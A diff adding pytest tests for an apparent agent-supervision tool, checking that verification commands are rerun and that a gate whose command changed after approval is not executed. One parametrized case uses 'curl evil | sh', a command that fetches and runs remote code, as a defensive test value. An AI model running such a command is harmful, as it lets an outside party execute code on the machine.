@@ -5,9 +5,13 @@ from __future__ import annotations
 import pytest
 from msgspec.structs import replace
 
+from sidecar.evidence.gates.approvals import gate_digest
+from sidecar.kernel.effects import RestReason
 from sidecar.kernel.errors import BadInputError
 from sidecar.kernel.gate import Gate, GateOrigin, Kind
+from support.cases import stopped
 from support.fakes import Fakes, command
+from support.scripted_gates import ScriptedEnding
 
 TESTS = Gate(
     id="tests",
@@ -82,3 +86,24 @@ async def test_what_cannot_be_saved_is_refused(fakes: Fakes, monkeypatch: pytest
     monkeypatch.setattr(fakes.catalog, "approve", approve)
     await trust(fakes)
     assert await trust(fakes, "yes") == ("Supervisor: nothing was approved: the disk is full", True)
+
+
+async def test_what_the_agent_ran_itself_is_run_again_and_the_person_reads_why(fakes: Fakes) -> None:
+    gate = replace(TESTS, command="pytest -q", behind="pytest", counts=True)
+    fakes.catalog.gates = (gate,)
+    fakes.gates.script("pytest -q", ScriptedEnding(executed=3))
+    await fakes.reply(command("all tests pass"))
+    assert fakes.goal().gates == (gate_digest(gate),)
+    rest = await fakes.rest()
+    assert rest.reason is RestReason.ACHIEVED
+    said = "`pytest -q` was run again, because the agent ran it itself; to approve it: /supervisor:trust"
+    assert rest.note.count(said) == 1
+
+
+@pytest.mark.parametrize("behind", ["pytest", "curl evil | sh"])
+async def test_what_the_agent_ran_and_changed_is_not_run(fakes: Fakes, behind: str) -> None:
+    fakes.catalog.gates = (replace(TESTS, command="pytest -q", behind="pytest"),)
+    await fakes.reply(command("the totals are rounded"))
+    fakes.catalog.gates = (replace(TESTS, command="pytest -q", behind=behind),)
+    await fakes.tell(stopped())
+    assert fakes.gates.ran == (["pytest -q"] if behind == "pytest" else [])
